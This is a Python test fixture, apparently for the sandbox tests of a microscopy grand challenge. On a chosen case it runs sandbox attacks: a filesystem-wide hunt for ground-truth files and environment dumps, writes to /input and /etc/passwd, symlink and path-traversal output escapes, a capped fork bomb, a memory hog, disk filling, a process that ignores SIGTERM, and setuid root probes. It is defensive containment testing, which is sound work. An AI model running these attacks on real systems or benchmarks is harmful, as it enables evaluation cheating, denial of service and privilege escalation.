#!/usr/bin/env python3
"""A hostile grand-challenge LMC algorithm: behaves on every case except the attacked one (stdlib only).

On a normal case it copies the input OME-TIFF unchanged as each of the four outputs (a valid prediction of
the right shape). On the case whose file stem (name up to its first dot) or file name equals ``ATTACK_CASE``
(``*``: every case) it runs the attack named by ``ATTACK`` and prints one machine-readable line
``REPORT {json}`` to stdout (some attacks also print ``PROGRESS {json}`` lines while they run, so a killed
attack still says how far it got). The sandbox tests (tests/test_sandbox.py) parse these lines.

Every attack carries a safety cap so that a harness that fails to contain it still cannot take the host
down; reaching a cap is reported (``"capped": true``) and makes the sandbox test fail.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time

ATTACK = os.environ.get("ATTACK", "")
ATTACK_CASE = os.environ.get("ATTACK_CASE", "")
IN = "/input"
OUT = "/output"
SOCKET = "organelles-transmitted-light-ome-tiff"
ORGANELLES = ("nucleus", "mitochondria", "tubulin", "actin")
OUTPUT_SOCKETS = tuple(f"{o}-fluorescence-ome-tiff" for o in ORGANELLES)
MiB = 1 << 20
HERE = os.path.dirname(os.path.abspath(__file__))  # this script names what it looks for: not a finding


def emit(kind: str, **fields) -> None:
    print(f"{kind} " + json.dumps({"attack": ATTACK, **fields}, sort_keys=True), flush=True)


def err_name(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno, str(exc.errno)) if exc.errno else type(exc).__name__


def attempt(action) -> str:
    """``"ok"`` when ``action()`` succeeded, else the errno name of its OSError."""
    try:
        action()
    except OSError as exc:
        return err_name(exc)
    return "ok"


def input_path(name: str) -> str:
    return f"{IN}/images/{SOCKET}/{name}"


def output_path(socket_slug: str, name: str) -> str:
    return f"{OUT}/images/{socket_slug}/{name}"


def case_names() -> list[str]:
    try:
        with open(f"{IN}/inputs.json") as fh:
            entries = json.load(fh)
        names = [e["image"]["name"] for e in entries if e["interface"]["slug"] == SOCKET]
    except (OSError, ValueError, KeyError, TypeError):
        names = sorted(os.listdir(f"{IN}/images/{SOCKET}"))
    return names


def is_attacked(name: str) -> bool:
    return ATTACK_CASE == "*" or ATTACK_CASE in (name, name.split(".")[0])


def write_valid(name: str) -> None:
    """The input, copied unchanged, as every output of the case."""
    for slug in OUTPUT_SOCKETS:
        os.makedirs(f"{OUT}/images/{slug}", exist_ok=True)
        shutil.copyfile(input_path(name), output_path(slug, name))


# --- attacks: each returns the exit code (None: write valid outputs and exit 0) -----------------------------


def gt_search(name: str) -> int | None:
    """Walk the whole filesystem looking for the benchmark's ground truth; hash every readable file."""
    skip = {"/proc", "/sys", "/dev"}
    suspicious_words = ("ground_truth", "ground-truth", "groundtruth", "best_z", "manifest.json", "split",
                        "nucleus", "mitochondria", "tubulin", "actin")
    content_words = (b"ground_truth", b"best_z", b"split_hash", b"_Nucleus", b"_Mitochondria")
    files = unreadable = bytes_hashed = 0
    digests: set[str] = set()
    tiffs: list[dict] = []
    named: list[str] = []
    content_hits: list[str] = []
    t0 = time.time()
    for dirpath, dirnames, filenames in os.walk("/", onerror=lambda e: None, followlinks=False):
        if dirpath == "/":
            dirnames[:] = [d for d in dirnames if f"/{d}" not in skip]
        for fname in filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]:
            path = os.path.join(dirpath, fname)
            low = path.lower()
            if any(w in low for w in suspicious_words) and not low.startswith(("/usr/lib/python3", "/usr/share")):
                named.append(path)
            try:
                st = os.lstat(path)
            except OSError:
                continue
            if not stat.S_ISREG(st.st_mode):
                continue
            files += 1
            if st.st_size > 64 * MiB:
                continue
            try:
                with open(path, "rb") as fh:
                    data = fh.read()
            except OSError:
                unreadable += 1
                continue
            bytes_hashed += len(data)
            digest = hashlib.sha256(data).hexdigest()
            digests.add(digest[:16])
            if data[:4] in (b"II*\x00", b"MM\x00*", b"II+\x00", b"MM\x00+"):
                tiffs.append({"path": path, "sha256": digest, "size": len(data)})
            if len(data) <= MiB and not low.startswith(("/usr/lib/python3", "/usr/share", "/var/lib/dpkg", HERE)):
                if any(w in data for w in content_words):
                    content_hits.append(path)
    mounts = []
    try:
        with open("/proc/self/mountinfo") as fh:
            for line in fh:
                parts = line.split()
                sep = parts.index("-")
                mounts.append({"root": parts[3], "mountpoint": parts[4], "options": parts[5],
                               "fstype": parts[sep + 1], "source": parts[sep + 2]})
    except (OSError, ValueError, IndexError):
        pass
    print("DIGESTS " + json.dumps(sorted(digests)), flush=True)
    emit("REPORT", case=name, files=files, unreadable=unreadable, bytes_hashed=bytes_hashed, digests=len(digests),
         tiffs=tiffs[:500], named=named[:500], content_hits=content_hits[:500], mounts=mounts,
         environ=dict(os.environ), hostname=socket.gethostname(), cwd=os.getcwd(), seconds=round(time.time() - t0, 2))
    return None


def write_input(name: str) -> int | None:
    """Try to change /input and the image's root filesystem."""
    src = input_path(name)
    tries = {
        "create /input/new.txt": lambda: open(f"{IN}/new.txt", "x").close(),
        "mkdir /input/new": lambda: os.mkdir(f"{IN}/new"),
        "append input": lambda: open(src, "ab").close(),
        "open input r+": lambda: open(src, "r+b").close(),
        "truncate input": lambda: os.truncate(src, 0),
        "chmod input": lambda: os.chmod(src, 0o666),
        "chmod socket folder": lambda: os.chmod(f"{IN}/images/{SOCKET}", 0o777),
        "utime input": lambda: os.utime(src, (0, 0)),
        "rename input": lambda: os.rename(src, src + ".moved"),
        "unlink input": lambda: os.unlink(src),
        "unlink inputs.json": lambda: os.unlink(f"{IN}/inputs.json"),
        "symlink in /input": lambda: os.symlink("/etc/passwd", f"{IN}/link"),
        "create /pwned": lambda: open("/pwned", "x").close(),
        "create /etc/pwned": lambda: open("/etc/pwned", "x").close(),
        "append /etc/passwd": lambda: open("/etc/passwd", "a").close(),
        "create /usr/pwned": lambda: open("/usr/pwned", "x").close(),
        "create /usr/local/bin/pwned": lambda: open("/usr/local/bin/pwned", "x").close(),
        "create /var/tmp/pwned": lambda: open("/var/tmp/pwned", "x").close(),
    }
    results = {what: attempt(action) for what, action in tries.items()}
    # /tmp must be writable (contract), so this one is expected "ok"
    results["create /tmp/scratch"] = attempt(lambda: open("/tmp/scratch", "x").close())
    emit("REPORT", case=name, results=results, uid=os.getuid(), gid=os.getgid())
    return None


def escape_output(name: str) -> int | None:
    """Outputs that are links, a write through '..', a hard link, a FIFO and a link to '/'."""
    done = {}
    for slug in OUTPUT_SOCKETS:
        os.makedirs(f"{OUT}/images/{slug}", exist_ok=True)
    stem = name.split(".")[0]
    nucleus, mito, tubulin, actin = (output_path(s, name) for s in OUTPUT_SOCKETS)
    done["symlink nucleus -> /etc/passwd"] = attempt(lambda: os.symlink("/etc/passwd", nucleus))
    done["symlink mitochondria -> input"] = attempt(lambda: os.symlink(input_path(name), mito))
    done["write actin"] = attempt(lambda: shutil.copyfile(input_path(name), actin))
    done["hard link tubulin = actin"] = attempt(lambda: os.link(actin, tubulin))
    done["symlink to /"] = attempt(lambda: os.symlink("/", f"{OUT}/images/{stem}-root-link"))
    done["fifo"] = attempt(lambda: os.mkfifo(f"{OUT}/images/{stem}.fifo"))
    done["mkdir images/x"] = attempt(lambda: os.makedirs(f"{OUT}/images/x", exist_ok=True))
    done["write images/x/../../zz-escape.tiff"] = attempt(
        lambda: shutil.copyfile(input_path(name), f"{OUT}/images/x/../../zz-escape.tiff"))
    done["write images/x/../../../escape.tiff"] = attempt(
        lambda: shutil.copyfile(input_path(name), f"{OUT}/images/x/../../../escape.tiff"))
    emit("REPORT", case=name, results=done)
    return 0


def network(name: str) -> int | None:
    """Which network interfaces exist (no traffic is sent)."""
    try:
        sys_net = sorted(os.listdir("/sys/class/net"))
    except OSError as exc:
        sys_net = [f"error {err_name(exc)}"]
    try:
        indexed = sorted(n for _, n in socket.if_nameindex())
    except OSError as exc:
        indexed = [f"error {err_name(exc)}"]
    routes = []
    try:
        with open("/proc/net/route") as fh:
            routes = [line.split()[0] for line in fh.readlines()[1:] if line.strip()]
    except OSError:
        pass
    emit("REPORT", case=name, sys_class_net=sys_net, if_nameindex=indexed, routes=routes)
    return None


def fork_bomb(name: str) -> int | None:
    """Fork until the kernel refuses (children sleep), then give up with a nonzero exit."""
    cap = int(os.environ.get("FORK_CAP", "2000"))
    forks = failures = 0
    last_error = None
    sys.stdout.flush()
    while forks < cap and failures < 50:
        try:
            pid = os.fork()
        except OSError as exc:
            failures += 1
            last_error = err_name(exc)
            time.sleep(0.01)
            continue
        if pid == 0:
            time.sleep(300)
            os._exit(0)
        forks += 1
    emit("REPORT", case=name, forks=forks, failures=failures, last_error=last_error, capped=forks >= cap)
    print(f"fork-bomb: fork refused ({last_error}) after {forks} forks", file=sys.stderr, flush=True)
    return 3


def memory_hog(name: str) -> int | None:
    """Allocate and touch memory in 64 MiB chunks until killed."""
    cap = int(os.environ.get("MEMORY_CAP_MIB", "2048")) * MiB
    chunk = 64 * MiB
    hoard = []
    allocated = 0
    while allocated < cap:
        block = bytearray(chunk)
        block[::4096] = b"\x01" * len(range(0, chunk, 4096))  # touch every page
        hoard.append(block)
        allocated += chunk
        emit("PROGRESS", case=name, allocated=allocated)
    emit("REPORT", case=name, allocated=allocated, capped=True)
    return None


def sleep_forever(name: str) -> int | None:
    """Ignore SIGTERM and SIGINT, then sleep forever."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    emit("REPORT", case=name, sleeping=True, started=time.time())
    while True:
        time.sleep(3600)


def huge_output(name: str) -> int | None:
    """An ever-growing output file, then many small files, until the output folder refuses."""
    cap = int(os.environ.get("OUTPUT_CAP_MIB", "256")) * MiB
    slug = OUTPUT_SOCKETS[0]
    os.makedirs(f"{OUT}/images/{slug}", exist_ok=True)
    written = 0
    error = None
    block = os.urandom(MiB)
    try:
        with open(output_path(slug, name), "wb") as fh:
            while written < cap:
                fh.write(block)
                fh.flush()
                written += len(block)
                if written % (4 * MiB) == 0:
                    emit("PROGRESS", case=name, written=written)
    except OSError as exc:
        error = err_name(exc)
    files = 0
    files_error = None
    stem = name.split(".")[0]
    try:
        os.makedirs(f"{OUT}/images/{stem}-many", exist_ok=True)
        while files < 5000:
            with open(f"{OUT}/images/{stem}-many/{files}.tiff", "wb") as fh:
                fh.write(b"II*\x00" + b"\x00" * 4092)
            files += 1
    except OSError as exc:
        files_error = err_name(exc)
    emit("REPORT", case=name, written=written, error=error, files=files, files_error=files_error,
         capped=written >= cap)
    return 0


def setuid(name: str) -> int | None:
    """Try to become root through setuid binaries prepared at build time, and to read a root-only file."""
    def run(argv):
        try:
            proc = subprocess.run(argv, capture_output=True, text=True, timeout=20)
            return {"rc": proc.returncode, "out": proc.stdout.strip()[:400], "err": proc.stderr.strip()[:400]}
        except (OSError, subprocess.SubprocessError) as exc:
            return {"rc": None, "out": "", "err": f"{type(exc).__name__}: {exc}"[:400]}

    probe = ("import os,json\n"
             "r={'euid':os.geteuid(),'egid':os.getegid()}\n"
             "try:\n open('/root-only.txt').read(); r['read']=True\n"
             "except OSError as e:\n r['read']=False; r['error']=e.errno\n"
             "print(json.dumps(r))")
    via_python = run(["/usr/local/bin/suid-python", "-c", probe])
    try:
        python_seen = json.loads(via_python["out"])
    except ValueError:
        python_seen = None
    via_id = run(["/usr/local/bin/suid-id", "-u"])
    euid_via_id = int(via_id["out"]) if via_id["out"].isdigit() else None
    direct = attempt(lambda: open("/root-only.txt").read())
    setuid0 = attempt(lambda: os.setuid(0))
    proc_status = {}
    try:
        with open("/proc/self/status") as fh:
            for line in fh:
                key, _, value = line.partition(":")
                if key in ("Uid", "Gid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
                    proc_status[key] = value.strip()
    except OSError:
        pass
    modes = {}
    for path in ("/usr/local/bin/suid-python", "/usr/local/bin/suid-id", "/root-only.txt"):
        try:
            st = os.stat(path)
            modes[path] = {"mode": oct(st.st_mode & 0o7777), "uid": st.st_uid}
        except OSError as exc:
            modes[path] = err_name(exc)
    emit("REPORT", case=name, uid=os.getuid(), euid=os.geteuid(), euid_via_id=euid_via_id, via_id=via_id,
         via_python=python_seen, via_python_raw=via_python, read_root_only_direct=direct, setuid0=setuid0,
         proc_status=proc_status, modes=modes)
    return None


ATTACKS = {
    "gt-search": gt_search,
    "write-input": write_input,
    "escape-output": escape_output,
    "network": network,
    "fork-bomb": fork_bomb,
    "memory-hog": memory_hog,
    "sleep-forever": sleep_forever,
    "huge-output": huge_output,
    "setuid": setuid,
}


def main() -> int:
    if ATTACK not in ATTACKS:
        print(f"hostile.py: unknown ATTACK {ATTACK!r} (one of {', '.join(ATTACKS)})", file=sys.stderr)
        return 2
    names = case_names()
    print(f"hostile {ATTACK}: cases {names}, attacking {ATTACK_CASE!r}", flush=True)
    code = 0
    for name in names:
        if is_attacked(name):
            result = ATTACKS[ATTACK](name)
            if result is not None:
                code = code or result
                continue
        write_valid(name)
    return code


if __name__ == "__main__":
    sys.exit(main())
